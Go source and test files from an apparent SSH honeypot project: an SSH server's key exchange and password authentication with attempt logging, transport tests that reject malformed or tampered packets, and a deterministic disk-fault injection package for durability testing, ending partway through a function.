		secret, h, err = serverKexDH(t, signer, clientInit, serverInit)
	default:
		err = fmt.Errorf("sshwire: negotiated unsupported kex %q", kexAlgo)
	}
	if err != nil {
		return err
	}
	return finishKex(t, secret, h, false)
}

// serverKexECDH runs curve25519-sha256 after KEXINIT exchange.
func serverKexECDH(t *transport, signer HostSigner, clientInit, serverInit *kexInit) (secret, h []byte, err error) {
	payload, err := t.readPacket()
	if err != nil {
		return nil, nil, err
	}
	if payload[0] != msgKexECDHInit {
		return nil, nil, fmt.Errorf("sshwire: expected KEX_ECDH_INIT, got %d", payload[0])
	}
	r := wire.NewReader(payload[1:])
	qC := r.String()
	if err := r.Err(); err != nil {
		return nil, nil, err
	}

	priv, err := generateECDH()
	if err != nil {
		return nil, nil, err
	}
	qS := priv.PublicKey().Bytes()
	secret, err = ecdhShared(priv, qC)
	if err != nil {
		t.sendDisconnect(disconnectKexFailed, err.Error())
		return nil, nil, err
	}

	pubBlob := signer.PublicBlob()
	h = exchangeHash(t.remoteVersion, t.localVersion, clientInit.raw, serverInit.raw, pubBlob, qC, qS, secret)
	sig, err := signer.Sign(h)
	if err != nil {
		return nil, nil, err
	}

	b := wire.NewBuilder(1024)
	b.Byte(msgKexECDHReply).String(pubBlob).String(qS).String(sig)
	if err := t.writePacket(b.Bytes()); err != nil {
		return nil, nil, err
	}
	return secret, h, nil
}

// finishKex derives directional keys from the shared secret, exchanges
// NEWKEYS, and activates the ciphers. client selects the letter sets.
func finishKex(t *transport, secret, h []byte, client bool) error {
	sessionID := h // first (and only) kex
	writeDir := deriveDirection(secret, h, sessionID, client)
	readDir := deriveDirection(secret, h, sessionID, !client)
	if err := t.prepareKeys(writeDir, readDir); err != nil {
		return err
	}
	nb := wire.NewBuilder(1)
	nb.Byte(msgNewKeys)
	if err := t.writePacket(nb.Bytes()); err != nil {
		return err
	}
	t.activateWrite()
	payload, err := t.readPacket()
	if err != nil {
		return err
	}
	if payload[0] != msgNewKeys {
		return fmt.Errorf("sshwire: expected NEWKEYS, got %d", payload[0])
	}
	t.activateRead()
	return nil
}

// serverAuth handles the ssh-userauth service: password only, bounded
// tries, every attempt logged.
func serverAuth(t *transport, cfg *ServerConfig, maxTries int) (string, error) {
	payload, err := t.readPacket()
	if err != nil {
		return "", err
	}
	if payload[0] != msgServiceRequest {
		return "", fmt.Errorf("sshwire: expected SERVICE_REQUEST, got %d", payload[0])
	}
	r := wire.NewReader(payload[1:])
	if svc := r.Text(); svc != serviceUserauth {
		t.sendDisconnect(disconnectServiceNotAvailable, "service not available")
		return "", fmt.Errorf("sshwire: unexpected service %q", svc)
	}
	b := wire.NewBuilder(32)
	b.Byte(msgServiceAccept).Text(serviceUserauth)
	if err := t.writePacket(b.Bytes()); err != nil {
		return "", err
	}
	if cfg.Banner != "" {
		bb := wire.NewBuilder(len(cfg.Banner) + 16)
		bb.Byte(msgUserauthBanner).Text(cfg.Banner).Text("")
		if err := t.writePacket(bb.Bytes()); err != nil {
			return "", err
		}
	}

	failures := 0
	for {
		payload, err := t.readPacket()
		if err != nil {
			return "", err
		}
		if payload[0] != msgUserauthRequest {
			return "", fmt.Errorf("sshwire: expected USERAUTH_REQUEST, got %d", payload[0])
		}
		r := wire.NewReader(payload[1:])
		user := r.Text()
		service := r.Text()
		method := r.Text()
		if err := r.Err(); err != nil {
			return "", err
		}
		if service != serviceConnection {
			t.sendDisconnect(disconnectServiceNotAvailable, "unknown service")
			return "", fmt.Errorf("sshwire: userauth for unknown service %q", service)
		}
		switch method {
		case "password":
			r.Bool() // FALSE: not a password change
			password := r.Text()
			if err := r.Err(); err != nil {
				return "", err
			}
			ok := cfg.PasswordCallback(user, password)
			if cfg.AuthLogCallback != nil {
				cfg.AuthLogCallback(AuthAttempt{User: user, Password: password, Method: method, Accepted: ok})
			}
			if ok {
				sb := wire.NewBuilder(1)
				sb.Byte(msgUserauthSuccess)
				if err := t.writePacket(sb.Bytes()); err != nil {
					return "", err
				}
				return user, nil
			}
			failures++
		case "none":
			if cfg.AuthLogCallback != nil {
				cfg.AuthLogCallback(AuthAttempt{User: user, Method: method})
			}
			// "none" probing does not consume a try (OpenSSH behavior).
		default:
			if cfg.AuthLogCallback != nil {
				cfg.AuthLogCallback(AuthAttempt{User: user, Method: method})
			}
			failures++
		}
		if failures >= maxTries {
			t.sendDisconnect(disconnectNoMoreAuthMethods, "Too many authentication failures")
			return "", fmt.Errorf("sshwire: %d failed authentication attempts", failures)
		}
		fb := wire.NewBuilder(32)
		fb.Byte(msgUserauthFailure).NameList([]string{"password"}).Bool(false)
		if err := t.writePacket(fb.Bytes()); err != nil {
			return "", err
		}
	}
}

// AcceptSession waits for the client to open a session channel.
func (c *ServerConn) AcceptSession() (*Channel, error) {
	ch, ok := <-c.mux.accept
	if !ok {
		return nil, c.mux.errLocked()
	}
	return ch, nil
}

// Close tears down the connection.
func (c *ServerConn) Close() error {
	c.t.sendDisconnect(disconnectByApplication, "closed")
	return c.t.Close()
}
