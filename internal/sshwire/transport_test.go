package sshwire

import (
	"bytes"
	"net"
	"strings"
	"sync"
	"testing"

	"honeyfarm/internal/netsim"
)

// transportPair returns two transports wired together over netsim with
// versions already exchanged.
func transportPair(t *testing.T) (client, server *transport) {
	t.Helper()
	f := netsim.NewFabric(0)
	l, err := f.Listen("10.0.0.1", 22)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	var srvConn net.Conn
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		srvConn, _ = l.Accept()
	}()
	cliConn, err := f.Dial("10.2.2.2", netsim.Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	wg.Wait()
	client = newTransport(cliConn)
	server = newTransport(srvConn)
	errCh := make(chan error, 1)
	go func() {
		errCh <- server.exchangeVersions("SSH-2.0-server", false)
	}()
	if err := client.exchangeVersions("SSH-2.0-client", true); err != nil {
		t.Fatal(err)
	}
	if err := <-errCh; err != nil {
		t.Fatal(err)
	}
	return client, server
}

func TestPlaintextPacketRoundTrip(t *testing.T) {
	c, s := transportPair(t)
	payload := []byte{msgIgnore + 40, 1, 2, 3}
	if err := c.writePacket(payload); err != nil {
		t.Fatal(err)
	}
	got, err := s.readPacket()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, payload) {
		t.Errorf("payload = %v", got)
	}
}

func TestTransparentMessages(t *testing.T) {
	c, s := transportPair(t)
	// IGNORE and DEBUG are consumed; the next real packet is returned.
	_ = c.writePacket([]byte{msgIgnore, 0, 0, 0, 0})
	_ = c.writePacket([]byte{msgDebug, 0, 0, 0, 0, 0, 0, 0, 0, 0})
	_ = c.writePacket([]byte{msgKexInit, 9})
	got, err := s.readPacket()
	if err != nil {
		t.Fatal(err)
	}
	if got[0] != msgKexInit {
		t.Errorf("got message %d, want KEXINIT", got[0])
	}
}

func TestDisconnectSurfaced(t *testing.T) {
	c, s := transportPair(t)
	c.sendDisconnect(disconnectByApplication, "bye now")
	_, err := s.readPacket()
	de, ok := err.(*DisconnectError)
	if !ok {
		t.Fatalf("err = %v, want DisconnectError", err)
	}
	if de.Reason != disconnectByApplication || de.Message != "bye now" {
		t.Errorf("disconnect = %+v", de)
	}
	if !strings.Contains(de.Error(), "bye now") {
		t.Errorf("Error() = %q", de.Error())
	}
}

func TestEncryptedRoundTripAndTamper(t *testing.T) {
	c, s := transportPair(t)
	secret := bytes.Repeat([]byte{7}, 32)
	h := bytes.Repeat([]byte{8}, 32)
	// Client writes c2s, server reads c2s.
	if err := c.prepareKeys(
		deriveDirection(secret, h, h, true),
		deriveDirection(secret, h, h, false),
	); err != nil {
		t.Fatal(err)
	}
	if err := s.prepareKeys(
		deriveDirection(secret, h, h, false),
		deriveDirection(secret, h, h, true),
	); err != nil {
		t.Fatal(err)
	}
	c.activateWrite()
	s.activateRead()

	payload := []byte{msgChannelData, 0, 0, 0, 1, 0, 0, 0, 3, 'a', 'b', 'c'}
	if err := c.writePacket(payload); err != nil {
		t.Fatal(err)
	}
	got, err := s.readPacket()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, payload) {
		t.Errorf("encrypted round trip = %v", got)
	}

	// Now write with the WRONG keys (reuse client's c2s stream state is
	// already advanced; easier: server's read MAC must reject a packet
	// written in plaintext by a fresh transport). Simulate tampering by
	// writing garbage bytes directly.
	if _, err := c.conn.Write(bytes.Repeat([]byte{0x42}, 64)); err != nil {
		t.Fatal(err)
	}
	if _, err := s.readPacket(); err == nil {
		t.Error("tampered ciphertext should fail MAC or length checks")
	}
}

func TestInvalidPacketLength(t *testing.T) {
	c, s := transportPair(t)
	// Hand-craft a packet with an absurd length field.
	raw := []byte{0xff, 0xff, 0xff, 0xff, 4, 0, 0, 0}
	if _, err := c.conn.Write(raw); err != nil {
		t.Fatal(err)
	}
	if _, err := s.readPacket(); err == nil {
		t.Error("oversized packet length should be rejected")
	}
}

func TestInvalidPadding(t *testing.T) {
	c, s := transportPair(t)
	// length=12, padding=200 (> packet) — must be rejected.
	raw := []byte{0, 0, 0, 12, 200, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11}
	if _, err := c.conn.Write(raw); err != nil {
		t.Fatal(err)
	}
	if _, err := s.readPacket(); err == nil {
		t.Error("invalid padding should be rejected")
	}
}

func TestVersionLineTooLong(t *testing.T) {
	f := netsim.NewFabric(0)
	l, _ := f.Listen("10.0.0.1", 22)
	defer l.Close()
	go func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		_, _ = c.Write([]byte(strings.Repeat("x", 5000)))
	}()
	nc, err := f.Dial("10.2.2.2", netsim.Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	tr := newTransport(nc)
	if err := tr.exchangeVersions("SSH-2.0-x", true); err == nil {
		t.Error("endless identification line should fail")
	}
}

func TestServerRejectsBannerFromClient(t *testing.T) {
	f := netsim.NewFabric(0)
	l, _ := f.Listen("10.0.0.1", 22)
	defer l.Close()
	errCh := make(chan error, 1)
	go func() {
		c, err := l.Accept()
		if err != nil {
			errCh <- err
			return
		}
		tr := newTransport(c)
		errCh <- tr.exchangeVersions("SSH-2.0-server", false)
	}()
	nc, err := f.Dial("10.2.2.2", netsim.Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	// Clients must send the version first; banner lines are server-only.
	if _, err := nc.Write([]byte("hello there\r\nSSH-2.0-late\r\n")); err != nil {
		t.Fatal(err)
	}
	if err := <-errCh; err == nil {
		t.Error("server should reject pre-version chatter from client")
	}
}

func TestOldProtocolVersionRejected(t *testing.T) {
	f := netsim.NewFabric(0)
	l, _ := f.Listen("10.0.0.1", 22)
	defer l.Close()
	go func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		_, _ = c.Write([]byte("SSH-1.5-oldjunk\r\n"))
	}()
	nc, err := f.Dial("10.2.2.2", netsim.Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	tr := newTransport(nc)
	if err := tr.exchangeVersions("SSH-2.0-x", true); err == nil {
		t.Error("SSH-1.5 peer should be rejected")
	}
}

func TestPacketPaddingAlwaysValid(t *testing.T) {
	// Property-ish: a range of payload sizes round-trips in plaintext mode.
	c, s := transportPair(t)
	for size := 1; size <= 600; size += 37 {
		payload := bytes.Repeat([]byte{msgKexInit}, size)
		if err := c.writePacket(payload); err != nil {
			t.Fatalf("size %d write: %v", size, err)
		}
		got, err := s.readPacket()
		if err != nil {
			t.Fatalf("size %d read: %v", size, err)
		}
		if len(got) != size {
			t.Fatalf("size %d: got %d bytes", size, len(got))
		}
	}
}
