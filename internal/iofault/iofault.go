// Package iofault abstracts the filesystem behind the durability layer
// (WAL segments, atomic whole-file writes, checkpoint manifests) so
// disk failure can be injected deterministically. The paper's honeyfarm
// stayed up for 15 months; over a horizon like that disks return EIO,
// fill up mid-rotation, fail an fsync, or lose a rename to a crash, and
// every one of those paths must be exercised, not hoped about.
//
// The package has two halves:
//
//   - FS/File: the minimal interface pair the durability code writes
//     through, with OS as the passthrough default. Production code pays
//     one interface dispatch per syscall and nothing else.
//   - Injector: an FS decorator that consumes a seeded splitmix64
//     schedule (Plan, the same mixing discipline as internal/faults) to
//     produce EIO, ENOSPC, short writes, fsync failures, rename
//     failures, a manual Break/Heal outage gate, and a crash-point mode
//     that silences every mutating op after the Kth — the ALICE-style
//     "what if the kernel stopped here" model the crash-at-every-
//     syscall property test iterates over.
//
// Error classification: Transient reports the errnos worth retrying
// (ENOSPC-family — space can come back; EINTR/EAGAIN — the kernel asked
// for a retry). Everything else (EIO above all) is permanent: the WAL
// degrades instead of spinning on a dead disk.
package iofault

import (
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"syscall"
)

// File is the per-handle surface the durability layer uses: sequential
// writes, positional reads for tailing, fsync, and the truncate the WAL
// needs to roll back a partially written frame.
type File interface {
	io.Reader
	io.Writer
	io.ReaderAt
	io.Seeker
	io.Closer
	// Name returns the path the file was opened with.
	Name() string
	// Sync flushes the file to stable storage (fsync).
	Sync() error
	// Truncate changes the file size without moving the offset.
	Truncate(size int64) error
}

// FS is the directory-level surface: open/create, the atomic rename
// that commits whole-file writes, and the listing/stat calls recovery
// scans use.
type FS interface {
	OpenFile(name string, flag int, perm fs.FileMode) (File, error)
	Rename(oldpath, newpath string) error
	Remove(name string) error
	ReadDir(name string) ([]fs.DirEntry, error)
	Stat(name string) (fs.FileInfo, error)
	MkdirAll(name string, perm fs.FileMode) error
}

// OS is the passthrough FS over the real filesystem — the default
// everywhere an Options.FS / Config.FS field is left nil.
var OS FS = osFS{}

type osFS struct{}

func (osFS) OpenFile(name string, flag int, perm fs.FileMode) (File, error) {
	return os.OpenFile(name, flag, perm)
}
func (osFS) Rename(oldpath, newpath string) error         { return os.Rename(oldpath, newpath) }
func (osFS) Remove(name string) error                     { return os.Remove(name) }
func (osFS) ReadDir(name string) ([]fs.DirEntry, error)   { return os.ReadDir(name) }
func (osFS) Stat(name string) (fs.FileInfo, error)        { return os.Stat(name) }
func (osFS) MkdirAll(name string, perm fs.FileMode) error { return os.MkdirAll(name, perm) }

// ReadFile reads the whole of name through fsys — os.ReadFile for an
// abstracted filesystem.
func ReadFile(fsys FS, name string) ([]byte, error) {
	f, err := fsys.OpenFile(name, os.O_RDONLY, 0)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return io.ReadAll(f)
}

// Transient reports whether a disk error is worth a bounded retry:
// out-of-space conditions clear when space is reclaimed, and
// EINTR/EAGAIN are the kernel asking for one. EIO and everything else
// are permanent — the caller should degrade, not spin.
func Transient(err error) bool {
	return errors.Is(err, syscall.ENOSPC) ||
		errors.Is(err, syscall.EINTR) ||
		errors.Is(err, syscall.EAGAIN)
}

// InjectedError marks a fault produced by an Injector. It wraps the
// real errno (syscall.EIO, syscall.ENOSPC, ...) so errors.Is and
// Transient classify injected faults exactly like kernel ones.
type InjectedError struct {
	Op   string // "write", "sync", "rename", "create", ...
	Path string
	Err  error
}

func (e *InjectedError) Error() string {
	return fmt.Sprintf("iofault: injected %s error on %s: %v", e.Op, e.Path, e.Err)
}

func (e *InjectedError) Unwrap() error { return e.Err }

// IsInjected reports whether err (or anything it wraps) was produced by
// an Injector — tests use it to tell injected faults from real ones.
func IsInjected(err error) bool {
	var ie *InjectedError
	return errors.As(err, &ie)
}
