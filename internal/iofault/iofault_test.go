package iofault

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// writeSeq drives a fixed mutating-op sequence through fsys and returns
// the per-op outcomes as error strings ("" for success). The sequence
// exercises create, write, sync, rename, truncate and remove.
func writeSeq(t *testing.T, fsys FS, dir string, rounds int) []string {
	t.Helper()
	var out []string
	rec := func(err error) {
		if err != nil {
			// Strip the per-run temp directory so outcomes compare across
			// runs.
			out = append(out, strings.ReplaceAll(err.Error(), dir, "<dir>"))
		} else {
			out = append(out, "")
		}
	}
	for i := 0; i < rounds; i++ {
		path := filepath.Join(dir, "f.tmp")
		f, err := fsys.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o644)
		rec(err)
		if err != nil {
			continue
		}
		_, werr := f.Write([]byte("0123456789abcdef"))
		rec(werr)
		rec(f.Sync())
		if err := f.Close(); err != nil {
			t.Fatalf("close: %v", err)
		}
		rec(fsys.Rename(path, filepath.Join(dir, "f.dat")))
	}
	return out
}

func TestInjectorDeterministicPerSeed(t *testing.T) {
	plan := Plan{
		Seed: 41, WriteErrRate: 0.2, ENOSPCRate: 0.1, ShortWriteRate: 0.1,
		SyncErrRate: 0.3, RenameErrRate: 0.3, CreateENOSPCRate: 0.1,
	}
	runs := make([][]string, 2)
	for r := range runs {
		dir := t.TempDir()
		inj, err := New(OS, plan)
		if err != nil {
			t.Fatalf("New: %v", err)
		}
		runs[r] = writeSeq(t, inj, dir, 64)
		st := inj.Stats()
		if st.WriteErrs+st.ENOSPCs+st.ShortWrites+st.SyncErrs+st.RenameErrs+st.CreateErrs == 0 {
			t.Fatalf("plan with high rates injected nothing: %+v", st)
		}
	}
	if len(runs[0]) != len(runs[1]) {
		t.Fatalf("outcome counts differ: %d vs %d", len(runs[0]), len(runs[1]))
	}
	for i := range runs[0] {
		if runs[0][i] != runs[1][i] {
			t.Fatalf("op %d diverged:\n  run0: %q\n  run1: %q", i, runs[0][i], runs[1][i])
		}
	}
}

func TestInjectedErrorsClassify(t *testing.T) {
	dir := t.TempDir()
	inj, err := New(OS, Plan{Seed: 1})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	inj.Break(syscall.ENOSPC)
	f, err := inj.OpenFile(filepath.Join(dir, "x"), os.O_WRONLY|os.O_CREATE, 0o644)
	if err == nil {
		f.Close()
		t.Fatal("create during Break succeeded")
	}
	if !IsInjected(err) {
		t.Fatalf("Break error not marked injected: %v", err)
	}
	if !errors.Is(err, syscall.ENOSPC) || !Transient(err) {
		t.Fatalf("ENOSPC not classified transient: %v", err)
	}
	inj.Heal()
	f, err = inj.OpenFile(filepath.Join(dir, "x"), os.O_WRONLY|os.O_CREATE, 0o644)
	if err != nil {
		t.Fatalf("create after Heal: %v", err)
	}
	if _, err := f.Write([]byte("ok")); err != nil {
		t.Fatalf("write after Heal: %v", err)
	}
	if err := f.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	if Transient(syscall.EIO) {
		t.Fatal("EIO classified transient; it is permanent")
	}
	if IsInjected(syscall.EIO) {
		t.Fatal("bare errno reported as injected")
	}
}

func TestShortWritePersistsPrefix(t *testing.T) {
	// Find a seed whose first write op draws the short-write class, then
	// verify the on-disk prefix matches the reported byte count.
	for seed := int64(0); seed < 512; seed++ {
		plan := Plan{Seed: seed, ShortWriteRate: 0.5}
		dir := t.TempDir()
		inj, err := New(OS, plan)
		if err != nil {
			t.Fatalf("New: %v", err)
		}
		path := filepath.Join(dir, "short")
		f, err := inj.OpenFile(path, os.O_WRONLY|os.O_CREATE, 0o644)
		if err != nil {
			t.Fatalf("create: %v", err)
		}
		payload := []byte("0123456789abcdef")
		n, werr := f.Write(payload)
		if err := f.Close(); err != nil {
			t.Fatalf("close: %v", err)
		}
		if werr == nil {
			continue // this op drew success; try the next seed
		}
		if !errors.Is(werr, syscall.EIO) || n >= len(payload) {
			t.Fatalf("short write returned n=%d err=%v", n, werr)
		}
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatalf("readback: %v", err)
		}
		if string(data) != string(payload[:n]) {
			t.Fatalf("disk holds %q, want prefix %q", data, payload[:n])
		}
		return
	}
	t.Fatal("no seed in 512 produced a short write at rate 0.5")
}

func TestCrashPointSilencesTail(t *testing.T) {
	// Reference run: count ops. Then for K = half the schedule, replay
	// and check the disk holds exactly the pre-K state.
	ref, err := New(OS, Plan{Seed: 7})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	writeSeq(t, ref, t.TempDir(), 4)
	total := ref.Ops()
	if total == 0 {
		t.Fatal("reference run observed no ops")
	}

	k := total / 2
	dir := t.TempDir()
	inj, err := New(OS, Plan{Seed: 7, CrashAfterOps: k})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	out := writeSeq(t, inj, dir, 4)
	for i, o := range out {
		if o != "" {
			t.Fatalf("crash-point run op %d errored: %s", i, o)
		}
	}
	// Black-hole handles do not advance the schedule, so the crash run
	// may observe fewer ops than the reference — but never more, and the
	// tail past K must be silenced.
	if st := inj.Stats(); st.Silenced == 0 || st.Ops > total {
		t.Fatalf("crash run stats: %+v, want <= %d ops with a silenced tail", st, total)
	}
	// With K = half, the final rename never landed: f.dat reflects an
	// earlier round (or is absent), and no bytes written after op K
	// exist anywhere.
	if _, err := os.Stat(filepath.Join(dir, "f.dat")); err != nil && !os.IsNotExist(err) {
		t.Fatalf("stat f.dat: %v", err)
	}

	// K = 0 must leave the directory completely empty.
	dir0 := t.TempDir()
	inj0, err := New(OS, Plan{Seed: 7, CrashAfterOps: 1})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	writeSeq(t, inj0, dir0, 2)
	entries, err := os.ReadDir(dir0)
	if err != nil {
		t.Fatalf("readdir: %v", err)
	}
	// Op 0 is the first create; the file may exist but every write to it
	// was silenced, so anything present must be empty.
	for _, e := range entries {
		info, err := e.Info()
		if err != nil {
			t.Fatalf("info: %v", err)
		}
		if info.Size() != 0 {
			t.Fatalf("file %s has %d bytes past the crash point", e.Name(), info.Size())
		}
	}
}

func TestPlanValidate(t *testing.T) {
	if err := (Plan{WriteErrRate: 1.5}).Validate(); err == nil {
		t.Fatal("rate > 1 accepted")
	}
	if err := (Plan{WriteErrRate: 0.5, ENOSPCRate: 0.4, ShortWriteRate: 0.3}).Validate(); err == nil {
		t.Fatal("write-class rates summing past 1 accepted")
	}
	if err := (Plan{CrashAfterOps: -1}).Validate(); err == nil {
		t.Fatal("negative crash point accepted")
	}
	if err := (Plan{Seed: 3, SyncErrRate: 1}).Validate(); err != nil {
		t.Fatalf("valid plan rejected: %v", err)
	}
	if _, err := New(OS, Plan{ENOSPCRate: 2}); err == nil {
		t.Fatal("New accepted an invalid plan")
	}
}
