package iofault

import (
	"fmt"
	"io"
	"io/fs"
	"os"
	"sync"
	"syscall"
)

// Plan is a seeded, fully deterministic disk-fault schedule, the
// filesystem sibling of faults.Plan. Rates are probabilities in [0, 1];
// each mutating filesystem op draws from splitmix64 streams keyed by
// (Seed, stream, op index), so the same plan over the same op sequence
// injects the same faults. Op indexes are assigned in arrival order:
// drivers that want a reproducible schedule must issue their mutating
// ops from one goroutine (the WAL property tests set SyncEvery above
// the record count so the pipelined committer never races the
// appender's op stream).
type Plan struct {
	Seed int64

	// Write-op fault classes. A write draws at most one: EIO beats
	// ENOSPC beats a short write. A short write persists a deterministic
	// prefix of the buffer and reports EIO, so the caller sees exactly
	// what a mid-write device error leaves on disk.
	WriteErrRate   float64
	ENOSPCRate     float64
	ShortWriteRate float64

	// SyncErrRate fails fsync with EIO — the failure mode that makes
	// "acknowledged" and "durable" diverge.
	SyncErrRate float64

	// RenameErrRate fails FS.Rename with EIO, breaking the commit step
	// of atomic whole-file writes.
	RenameErrRate float64

	// CreateENOSPCRate fails file creation with ENOSPC (a full disk
	// refuses new segments before it refuses appends).
	CreateENOSPCRate float64

	// CrashAfterOps, when positive, switches the injector to crash-point
	// mode: the first CrashAfterOps mutating ops execute normally and
	// every later one silently succeeds without touching disk. The disk
	// is then exactly what a kernel that stopped after op K would have
	// left, while the process under test runs to completion believing
	// all its writes landed.
	CrashAfterOps int64
}

// Validate checks the plan's rates and knobs.
func (p Plan) Validate() error {
	for name, r := range map[string]float64{
		"write_err_rate": p.WriteErrRate, "enospc_rate": p.ENOSPCRate,
		"short_write_rate": p.ShortWriteRate, "sync_err_rate": p.SyncErrRate,
		"rename_err_rate": p.RenameErrRate, "create_enospc_rate": p.CreateENOSPCRate,
	} {
		if r < 0 || r > 1 {
			return fmt.Errorf("iofault: %s = %v out of [0,1]", name, r)
		}
	}
	if sum := p.WriteErrRate + p.ENOSPCRate + p.ShortWriteRate; sum > 1 {
		return fmt.Errorf("iofault: write-op rates sum to %v > 1", sum)
	}
	if p.CrashAfterOps < 0 {
		return fmt.Errorf("iofault: negative crash point %d", p.CrashAfterOps)
	}
	return nil
}

// Decision streams, one per fault class, so the write-class draw for op
// i never correlates with the short-write length draw for the same op.
const (
	streamWriteClass uint64 = 0x77726f70 // write-op fault class
	streamShortLen   uint64 = 0x73686c6e // short-write prefix length
	streamSync       uint64 = 0x73796e63 // fsync failure gate
	streamRename     uint64 = 0x726e6d65 // rename failure gate
	streamCreate     uint64 = 0x63726174 // create ENOSPC gate
)

// mix64 is the splitmix64 finalizer over (seed, stream, index), the
// same mixing discipline as faults.mix64 and workload.shardSeed.
func mix64(seed int64, stream, i uint64) uint64 {
	z := uint64(seed) + 0x9e3779b97f4a7c15*(i+1) + 0xd1b54a32d192ed03*stream
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

// unit maps a stream draw onto [0, 1).
func (p Plan) unit(stream uint64, i int64) float64 {
	return float64(mix64(p.Seed, stream, uint64(i))>>11) / (1 << 53)
}

// Stats counts what an injector has done, by class.
type Stats struct {
	// Ops is the total number of mutating filesystem ops observed
	// (writes, fsyncs, truncates, creates, renames, removes).
	Ops int64
	// Per-class injected fault counts.
	WriteErrs   int
	ENOSPCs     int
	ShortWrites int
	SyncErrs    int
	RenameErrs  int
	CreateErrs  int
	// Silenced counts mutating ops swallowed by crash-point mode.
	Silenced int
	// BrokenErrs counts mutating ops refused by the manual Break gate.
	BrokenErrs int
}

// Injector is an FS decorator that injects the plan's faults into every
// mutating op. Reads, stats and directory listings pass through
// untouched — the model is a disk that fails writes, not one that lies
// about what it already holds. Safe for concurrent use.
type Injector struct {
	inner FS
	plan  Plan

	mu     sync.Mutex
	nextOp int64
	broken error // manual outage gate (Break/Heal), nil when healthy
	stats  Stats
}

// New wraps inner with the plan's fault schedule.
func New(inner FS, plan Plan) (*Injector, error) {
	if err := plan.Validate(); err != nil {
		return nil, err
	}
	return &Injector{inner: inner, plan: plan}, nil
}

// Break makes every subsequent mutating op fail with cause (wrapped as
// an InjectedError) until Heal — the manual outage window the
// ENOSPC-window tests open and close around a farm run.
func (in *Injector) Break(cause error) {
	in.mu.Lock()
	defer in.mu.Unlock()
	in.broken = cause
}

// Heal closes the outage window opened by Break.
func (in *Injector) Heal() {
	in.mu.Lock()
	defer in.mu.Unlock()
	in.broken = nil
}

// Ops returns the number of mutating ops observed so far. A fault-free
// reference run reads this to learn the schedule length the
// crash-at-every-syscall test then iterates over.
func (in *Injector) Ops() int64 {
	in.mu.Lock()
	defer in.mu.Unlock()
	return in.nextOp
}

// Stats returns a snapshot of the fault counters.
func (in *Injector) Stats() Stats {
	in.mu.Lock()
	defer in.mu.Unlock()
	return in.stats
}

// decision is the injector's verdict on one mutating op.
type decision struct {
	op       int64
	silenced bool
	err      error // non-nil: fail the op with this
	shortLen int   // >= 0: write only this prefix, then fail
}

// decide assigns the next op index and draws the op's fate. class is
// one of the stream tags; rate the class's failure probability.
func (in *Injector) decide(class uint64, rate float64, opName, path string, errno error) decision {
	in.mu.Lock()
	defer in.mu.Unlock()
	d := decision{op: in.nextOp, shortLen: -1}
	in.nextOp++
	in.stats.Ops++
	if in.plan.CrashAfterOps > 0 && d.op >= in.plan.CrashAfterOps {
		d.silenced = true
		in.stats.Silenced++
		return d
	}
	if in.broken != nil {
		d.err = &InjectedError{Op: opName, Path: path, Err: in.broken}
		in.stats.BrokenErrs++
		return d
	}
	if rate > 0 && in.plan.unit(class, d.op) < rate {
		d.err = &InjectedError{Op: opName, Path: path, Err: errno}
		in.countLocked(class)
		return d
	}
	return d
}

// decideWrite is decide for the three-way write-op class draw.
func (in *Injector) decideWrite(path string, n int) decision {
	in.mu.Lock()
	defer in.mu.Unlock()
	d := decision{op: in.nextOp, shortLen: -1}
	in.nextOp++
	in.stats.Ops++
	if in.plan.CrashAfterOps > 0 && d.op >= in.plan.CrashAfterOps {
		d.silenced = true
		in.stats.Silenced++
		return d
	}
	if in.broken != nil {
		d.err = &InjectedError{Op: "write", Path: path, Err: in.broken}
		in.stats.BrokenErrs++
		return d
	}
	u := in.plan.unit(streamWriteClass, d.op)
	switch {
	case u < in.plan.WriteErrRate:
		d.err = &InjectedError{Op: "write", Path: path, Err: syscall.EIO}
		in.stats.WriteErrs++
	case u < in.plan.WriteErrRate+in.plan.ENOSPCRate:
		d.err = &InjectedError{Op: "write", Path: path, Err: syscall.ENOSPC}
		in.stats.ENOSPCs++
	case u < in.plan.WriteErrRate+in.plan.ENOSPCRate+in.plan.ShortWriteRate && n > 1:
		d.err = &InjectedError{Op: "write", Path: path, Err: syscall.EIO}
		d.shortLen = int(in.plan.unit(streamShortLen, d.op) * float64(n))
		in.stats.ShortWrites++
	}
	return d
}

// countLocked bumps the per-class counter for a decide() fault.
func (in *Injector) countLocked(class uint64) {
	switch class {
	case streamSync:
		in.stats.SyncErrs++
	case streamRename:
		in.stats.RenameErrs++
	case streamCreate:
		in.stats.CreateErrs++
	}
}

// OpenFile counts as a mutating op only when it can change the disk
// (O_CREATE or O_TRUNC). A silenced creating open returns a black-hole
// handle, since after the crash point the file never came to exist.
func (in *Injector) OpenFile(name string, flag int, perm fs.FileMode) (File, error) {
	if flag&(os.O_CREATE|os.O_TRUNC) != 0 {
		d := in.decide(streamCreate, in.plan.CreateENOSPCRate, "create", name, syscall.ENOSPC)
		if d.silenced {
			return &blackholeFile{name: name}, nil
		}
		if d.err != nil {
			return nil, d.err
		}
	}
